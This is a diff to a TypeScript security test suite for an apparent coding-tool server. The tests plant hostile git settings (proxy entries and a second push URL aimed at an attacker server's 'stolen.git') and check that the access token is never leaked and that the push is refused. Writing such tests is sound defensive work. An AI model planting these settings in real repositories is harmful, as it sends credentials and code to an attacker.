@@ -14,6 +14,9 @@ import { git, makeBareRemote, startHarness, structured, textOf, type Harness } f
 // server playing the attacker: a proxy that forwards for real (so an unprotected push would succeed
 // through it) and logs every header it gets. The attacker must never see the token; the real push lands.
 
+// Many attacks in one coding-mcp process: the loops get more time than one e2e test does.
+const LOOP_TIMEOUT_MS = 600_000;
+
 const TOKEN = `tok_${randomBytes(18).toString("base64")}+/=`;
 const TOKEN_FORMS = [TOKEN, encodeURIComponent(TOKEN), Buffer.from(TOKEN).toString("base64")];
 
@@ -146,7 +149,8 @@ const pushAttacks: Attack[] = [
     },
     live: true,
   },
-  { name: "http.proxy with a user name (git asks for the proxy's password)", plant: (ws) => git(ws, "config", "http.proxy", attacker.baseUrl.replace("//", "//proxyuser@")), live: true },
+  // No liveness probe here: without askpass, git stops at the proxy's password prompt before connecting.
+  { name: "http.proxy with a user name (git asks for the proxy's password)", plant: (ws) => git(ws, "config", "http.proxy", attacker.baseUrl.replace("//", "//proxyuser@")) },
   { name: "http.<url>.proxy for the server's URL", plant: (ws) => git(ws, "config", `http.${serverPrefix()}.proxy`, attacker.baseUrl), live: true },
   { name: "remote.origin.proxy", plant: (ws) => git(ws, "config", "remote.origin.proxy", attacker.baseUrl), live: true },
   {
@@ -196,7 +200,7 @@ const pushAttacks: Attack[] = [
       git(ws, "config", "remote.origin.pushurl", repoUrl);
       git(ws, "config", "--add", "remote.origin.pushurl", `${attacker.baseUrl}/stolen.git`);
     },
-    refused: /remote\.origin\.pushurl[\s\S]*git config/,
+    refused: /remote\.origin\.pushurl is set 2 times[\s\S]*nothing was pushed[\s\S]*config --unset-all remote\.origin\.pushurl/,
   },
 ];
 
@@ -243,7 +247,7 @@ describe("coding_push with a workspace config written by the agent", () => {
       fs.rmSync(path.join(ws, ".git", "hooks", "pre-push"), { force: true });
     });
     expect(textOf(await h.call("coding_close", { session_id: pushSession }))).not.toContain(TOKEN);
-  });
+  }, LOOP_TIMEOUT_MS);
 });
 
 const cloneAttacks: Attack[] = [
@@ -280,7 +284,7 @@ describe("a clone into a session with a global config written by the agent", () 
       expect(attacker.log.length, `${attack.name}: the clone went through the attacker`).toBe(seen);
       structured(await h.call("coding_close", { session_id: opened.session_id }));
     });
-  });
+  }, LOOP_TIMEOUT_MS);
 
   it("left the token in no tool result or log line", () => {
     const log = h.stderr.join("\n");
